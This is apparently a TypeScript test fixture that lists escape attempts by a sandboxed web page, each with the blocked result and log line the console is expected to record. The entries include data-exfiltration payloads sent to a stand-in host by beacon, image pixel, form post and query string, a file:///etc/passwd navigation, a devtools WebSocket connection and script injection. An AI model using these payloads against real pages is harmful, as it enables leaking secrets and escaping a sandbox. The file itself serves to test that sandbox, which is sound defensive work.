import { expect } from 'vitest'

/** Runs in the page. `OTHER` stands for the address of a server on this machine that must never hear of it. */
const soon = (code: string): string => `new Promise((done) => { ${code}; setTimeout(() => done('still here'), 200) })`
const socket = (made: string): string =>
  `new Promise((done) => { const it = ${made}; it.onopen = () => done('open'); it.onerror = () => done('refused') })`
export const append = (tag: string, members: string): string =>
  soon(`document.body.append(Object.assign(document.createElement('${tag}'), { ${members} }))`)
const click = (tag: string, members: string): string =>
  soon(
    `const it = Object.assign(document.createElement('${tag}'), { ${members} }); document.body.append(it); it.click()`,
  )
const HERE = 'still here'
const NO = 'TypeError: Failed to fetch'

/** What a page tries, what becomes of it there, and the kind and words of the line that tells of it. */
export const ESCAPES: readonly [string, string, unknown, string, string][] = [
  [
    'go to a foreign site',
    soon(`location.assign('https://example.org/?s=hunter2')`),
    HERE,
    'navigation',
    'https://example.org/',
  ],
  ['go to the same console over HTTP', soon(`location.assign('OTHER/')`), HERE, 'navigation', 'OTHER/'],
  ['go to a file', soon(`location.assign('file:///etc/passwd')`), HERE, 'navigation', 'file:///etc/passwd'],
  ['go to a data: page', soon(`location.assign('data:text/html,hunter2')`), HERE, 'navigation', 'data:'],
  [
    'go to another host of its own scheme',
    soon(`location.assign('OWN_OTHER')`),
    HERE,
    'navigation',
    'countersign://other/',
  ],
  [
    'run a javascript: address',
    soon(`location.assign('javascript:window.ran=1')`),
    HERE,
    'policy',
    'script-src-elem inline',
  ],
  [
    'run a script of its own making',
    append('script', `textContent: 'window.ran=1'`),
    HERE,
    'policy',
    'script-src-elem inline',
  ],
  ['run a script from elsewhere', append('script', `src: 'OTHER/x.js'`), HERE, 'policy', 'script-src-elem OTHER/x.js'],
  ['open a window with a file', soon(`window.open('file:///etc/passwd')`), HERE, 'navigation', 'file:///etc/passwd'],
  [
    'open a window with plain http',
    soon(`window.open('http://example.org/w?s=hunter2')`),
    HERE,
    'new_window',
    'http://example.org/w',
  ],
  ['open an empty window', soon(`window.open('about:blank')`), HERE, 'new_window', 'about:'],
  ['frame a foreign site', append('iframe', `src: 'OTHER/frame'`), HERE, 'policy', 'frame-src OTHER'],
  ['embed a plugin', append('object', `data: 'OTHER/object'`), HERE, 'policy', 'object-src OTHER'],
  [
    'send a form',
    soon(
      `const f = Object.assign(document.createElement('form'), { action: 'OTHER/form', method: 'post' }); document.body.append(f); f.submit()`,
    ),
    HERE,
    'policy',
    'form-action OTHER/form',
  ],
  [
    'read the API past the door',
    `fetch('OTHER/api/tasks').then(String, String)`,
    NO,
    'policy',
    'connect-src OTHER/api/tasks',
  ],
  [
    'speak to a debugger',
    socket(`new WebSocket('OTHER/devtools/browser'.replace('http', 'ws'))`),
    'refused',
    'policy',
    '/devtools/browser',
  ],
  [
    'listen to events past the door',
    socket(`new EventSource('OTHER/api/events')`),
    'refused',
    'policy',
    'connect-src OTHER/api/events',
  ],
  [
    'send a beacon',
    soon(`navigator.sendBeacon('OTHER/beacon', 'hunter2')`),
    HERE,
    'policy',
    'connect-src OTHER/beacon',
  ],
  [
    'load a picture from elsewhere',
    append('img', `src: 'OTHER/pixel?s=hunter2'`),
    HERE,
    'policy',
    'img-src OTHER/pixel',
  ],
  [
    'turn its addresses elsewhere',
    soon(`document.head.append(Object.assign(document.createElement('base'), { href: 'OTHER/base' }))`),
    HERE,
    'policy',
    'base-uri OTHER/base',
  ],
  [
    'stay as a service worker',
    `navigator.serviceWorker.register('/index.js').then(() => 'stays', ({ name }) => name)`,
    expect.stringMatching(/Error$/),
    'policy',
    'worker-src',
  ],
  [
    'start a worker',
    append('p', `x: new Worker(URL.createObjectURL(new Blob(['1'])))`),
    HERE,
    'policy',
    'worker-src blob',
  ],
  [
    'download from elsewhere',
    click('a', `href: 'OTHER/download', download: 'x.exe'`),
    HERE,
    'navigation',
    'OTHER/download',
  ],
  [
    'download what was not read by the console',
    click('a', `href: 'data:text/plain,hunter2', download: 'x.txt'`),
    HERE,
    'download',
    'data:',
  ],
]
